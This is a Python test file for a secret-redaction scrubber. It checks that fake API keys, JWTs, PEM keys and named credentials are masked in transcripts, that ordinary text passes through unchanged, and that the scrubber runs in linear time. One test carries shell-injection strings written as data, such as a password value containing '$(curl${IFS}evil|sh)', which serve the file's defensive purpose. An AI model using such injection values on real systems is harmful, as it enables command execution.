"""Patterns of secrets are found anywhere in a text, in linear time, with few false positives."""

import base64
import itertools
import random
import time
from re import _parser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.sample_size import sample_size, thinned
from tests.transcript.redaction.held_text import redacted_rest
from tests.transcript.redaction.time_growth import best_seconds

from palimpsest.transcript.redaction.named_forms import NAMED_FORMS
from palimpsest.transcript.redaction.secret_patterns import (
    MAX_SECRET_CHARS,
    MIN_RUN_CHARS,
    REDACTED,
    RUN_CHARS,
    SecretStream,
    _is_suspect,
    scrub,
)
from palimpsest.transcript.redaction.secret_removal import secret_values
from palimpsest.transcript.redaction.token_forms import TOKENS

PEM = (
    "-----BEGIN " + "RSA PRIVATE KEY-----\n" + "MIIEowIBAAKCAQEA7bq8\n" * 8 + "Ab3=\n"
    "-----END " + "RSA PRIVATE KEY-----"
)
JWT = "eyJhbGciOiJIUzI1NiJ9" + ".eyJzdWIiOiIxMjM0NTY3ODkwIn0" + ".SflKxwRJSMeKKF2QT4fwpM"
SECRETS = {
    "openai, all small": "sk-" + "abcdefghijklmnopqrstuvwx",
    "openai": "sk-" + "proj-abcDEF0123456789abcdef",
    "anthropic": "sk-" + "ant-api03-abcDEF0123456789_-x",
    "aws": "AKIA" + "IOSFODNN7EXAMPLE",
    "github": "ghp_" + "a1B2" * 9,
    "github fine": "github_" + "pat_" + "a1B2" * 9,
    "gitlab": "glpat" + "-abcdefghij0123456789",
    "slack": "xoxb" + "-123456789012-abcdefABCDEF",
    "google": "AIza" + "SyA1234567890abcdefghijklmnopqrstuv",
    "hugging face": "hf_" + "abcdefghijABCDEFGHIJ0123",
    "groq": "gsk_" + "abcdefghijABCDEFGHIJ0123",
    "perplexity": "pplx-" + "abcdefghijABCDEFGHIJ0123456789ab",
    "databricks": "dapi" + "0123456789abcdef0123456789abcdef",
    "stripe": "sk_" + "live_0123456789abcdefABCD",
    "jwt": JWT,
    "pem": PEM,
    "pem in json": PEM.replace("\n", "\\n"),
    "pem cut off": PEM[:120],
}
PLACED = {
    "Authorization: Bearer abcdefghij0123456789": "abcdefghij0123456789",
    "authorization: basic YWRhOmxvdmVsYWNlMTgxNQ==": "YWRhOmxvdmVsYWNlMTgxNQ==",
    "postgres://ada:love-lace!18@db.example/x": "love-lace!18",
    "https://0123456789abcdef0123456789abcdef@sentry.example/4": "0123456789abcdef0123456789abcdef",
    '{"api_key": "0123456789abcdef"}': "0123456789abcdef",
    '{\\"api_key\\": \\"0123456789abcdef\\"}': "0123456789abcdef",
    "OpenAI(api_key='not-a-known-form')": "not-a-known-form",
    "DB_PASSWORD=correct-horse-battery": "correct-horse-battery",
    "Server=db;Uid=ada;Pwd=Lovelace1!;": "Lovelace1!",
    "https://x.example/v1?key=0123456789abcdefgh": "0123456789abcdefgh",
}


@pytest.mark.parametrize("secret", SECRETS.values(), ids=SECRETS)
@pytest.mark.parametrize(
    "around", thinned(["{}", "say {}, please", '"{}"', "a\\n{}\\nb", "KEY={}", "({})"], 6)
)
def test_a_known_form_goes_wherever_it_stands(secret: str, around: str) -> None:
    assert scrub(around.format(secret)) == around.format(REDACTED)


@pytest.mark.parametrize(("text", "secret"), PLACED.items())
def test_what_stands_behind_a_name_goes_and_the_name_stays(text: str, secret: str) -> None:
    assert scrub(text) == text.replace(secret, REDACTED)


@pytest.mark.parametrize(
    "text",
    [
        "commit 39149fe1c0b7a8c4d8f4f6f0f2f0b4c3e6b7a8c4 of scikit-learn",
        "123e4567-e89b-12d3-a456-426614174000",
        "call_abcDEF0123456789abcdef toolu_01A09q90qw90lq917835lq9 chatcmpl-AbCdEf0123456789AbCdEf",
        "msg_01XFDUDYJgAACzvnptvVoYEL req_011CSHoEeqs5C35K2UUqR7Fy resp_0123456789abcdef0123456789abcdef",
        "tokens: 1200 in, 345678901234 out; max_tokens=128000000000",
        "client = OpenAI(api_key=os.environ.get('OPENAI_API_KEY'), timeout=12)",
        "password=getpass.getpass('Password: ')",
        "password = settings.database_password or database_password",
        "client_secret=_client_secret, aws_secret_access_key=s3_aws_secret_access_key",
        "postgres://{user}:{password}@{host}/db and https://$USER:$TOKEN@example.org",
        "the sk-learn-based-estimator-checks of the sk-estimator-family",
        "See -----BEGIN CERTIFICATE----- and http://localhost:8888/lab?reset",
        "Basic understanding-of-the-programme is enough; bearer certificates too",
        "for key, token in secrets.items(): password = None",
        "PWD=/home/ada/work;OLDPWD=/home/ada",
        "git@github.com:ada/engine.git ssh://git@example.org/x",
        "İstanbul KEY password: İİİ",
    ],
)
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert scrub(text) == text


@pytest.mark.parametrize(
    "text",
    [
        'x password="abcdef$(curl${IFS}evil|sh)"',
        'password="abcdefgh;/tmp/evil"',
        "password='abcdefgh`id`'",
        "curl postgres://ada:x$(id)@db",
        "curl postgres://ada:x;id@db",
        "Authorization: bearer\n/tmp/evil/evil0123456789",
        "echo password:\n/tmp/evil/evil0123456789",
        "a;pwd=abc|/tmp/evil",
    ],
)
def test_no_command_is_hidden_from_a_question(text: str) -> None:
    scrubbed = scrub(text)

    for part in ("$(", "`", ";", "|", "\n/tmp/evil", "IFS"):
        assert (part in scrubbed) == (part in text)


def test_pictures_and_hashes_stay_as_they_are() -> None:
    picture = base64.b64encode(random.Random(1).randbytes(300_000)).decode()
    hashes = " ".join(f"{random.Random(n).getrandbits(256):064x}" for n in range(2_000))

    assert scrub(picture) == picture
    assert scrub(hashes) == hashes


HOSTILE = [
    "sk-", "-sk-a", "sk-a.", "eyJ", "-eyJ", "eyJaaaaaaaaaaa.", "SG.", "AKIA", "password=", "password:'",
    "api_key=a.", "a_", "key", "://a:", "://", "bearer ", "basic a", ";pwd=", "?sig=", "password=\\\\\\",
    "-----BEGIN ", "-----BEGIN PRIVATE KEY-----", "-----BEGIN PRIVATE KEY-----AAAAAAAAAAAAAAAAAAAA ",
    " " * 50 + "password" + " " * 50, "\\n",
]  # fmt: skip


@pytest.mark.slow
@pytest.mark.parametrize("piece", thinned(HOSTILE, 5))
def test_twice_the_text_takes_about_twice_the_time(piece: str) -> None:
    small, large = best_seconds(scrub, piece, 15_000), best_seconds(scrub, piece, 60_000)

    assert large < 8 * small + 0.05, "a square would be 16 times"


@pytest.mark.slow
def test_thousands_of_pieces_cost_little() -> None:
    pieces, stream, began = sample_size(2_500, 10_000), SecretStream(), time.process_time()
    for n in range(pieces):
        stream.redact_piece(f"word{n} and more ", ("a-known-value-1",))

    assert time.process_time() - began < 4 * pieces / 10_000


@pytest.mark.slow
def test_a_run_that_never_ends_is_not_held_for_ever() -> None:
    stream, shown, began = SecretStream(), 0, time.process_time()
    pieces, piece = sample_size(250, 2_000), "sk-abcdef0123456789" * sample_size(4, 1)
    for _ in range(pieces):
        shown += len(stream.redact_piece(piece))

    assert shown > 0
    assert time.process_time() - began < 10
    assert pieces * len(piece) > MAX_SECRET_CHARS


VALUES = secret_values({"SOME_API_KEY": "value-of-the-key-1815"})
PLANTED = st.sampled_from([*SECRETS.values(), *VALUES])


@pytest.mark.slow
@settings(max_examples=sample_size(40, 6_000), deadline=None)
@given(
    before=st.text(max_size=40),
    secret=PLANTED,
    after=st.text(max_size=40),
    cuts=st.lists(st.integers(0, 400), max_size=12),
)
def test_no_cut_lets_a_secret_through(
    before: str, secret: str, after: str, cuts: list[int]
) -> None:
    text = f"{before} {secret} {after}"
    places = [0, *sorted(min(cut, len(text)) for cut in cuts), len(text)]
    stream = SecretStream()

    pieces = [stream.redact_piece(text[a:b], VALUES) for a, b in itertools.pairwise(places)] + [
        redacted_rest(stream, VALUES)
    ]

    shown = "".join(pieces)
    assert secret not in shown
    longest = 8 if "BEGIN" not in secret else 40
    assert secret[longest : longest + 12] not in shown
    assert scrub(shown, VALUES) == shown


@pytest.mark.slow
@settings(max_examples=sample_size(40, 2_000), deadline=None)
@given(st.text(alphabet="skey- .:=/\n'\"AaI0", max_size=200), st.integers(1, 9))
def test_ordinary_pieces_come_out_whole(text: str, size: int) -> None:
    stream = SecretStream()

    shown = "".join(stream.redact_piece(text[at : at + size]) for at in range(0, len(text), size))
    shown += redacted_rest(stream)

    if scrub(text) == text and REDACTED not in shown:
        assert shown == text


def test_no_token_is_shorter_than_a_run_that_is_looked_at() -> None:
    """``secret_spans`` looks for tokens, and for values in one run with their name, in long runs only."""
    shortest = [
        len(head) + _parser.parse(form.body.pattern).getwidth()[0]
        for form in TOKENS
        for head in form.beginnings
    ]
    with_names = [
        sum(
            _parser.parse(one.pattern).getwidth()[0]
            for one in (form.pattern_before, form.secret_pattern)
        )
        for form in NAMED_FORMS
        if form.run_part
    ]

    assert min(*shortest, *with_names) >= MIN_RUN_CHARS
    assert with_names
    assert {*"".join(head for form in TOKENS for head in form.beginnings)} <= {*RUN_CHARS}
    assert {*"".join(form.body_characters for form in TOKENS)} <= {*RUN_CHARS}


@pytest.mark.parametrize("before", ["", "n", "/home/", "name:"])
def test_each_beginning_of_a_token_makes_its_run_one_that_is_looked_at(before: str) -> None:
    heads = [head for form in TOKENS for head in form.beginnings]
    rest = "0" * MIN_RUN_CHARS

    assert [head for head in heads if not _is_suspect(f"{before}{head}{rest}")] == []
    assert not _is_suspect(f"{before}module/function/{rest}")


@pytest.mark.parametrize("name", sorted(SECRETS))
@pytest.mark.parametrize("around", ["{}", " {} ", '"{}"', "a\\n{}\\n", "({})", "é{}é"])
def test_a_secret_is_found_whatever_ends_its_run(name: str, around: str) -> None:
    secret = SECRETS[name]

    assert secret not in scrub(around.format(secret))
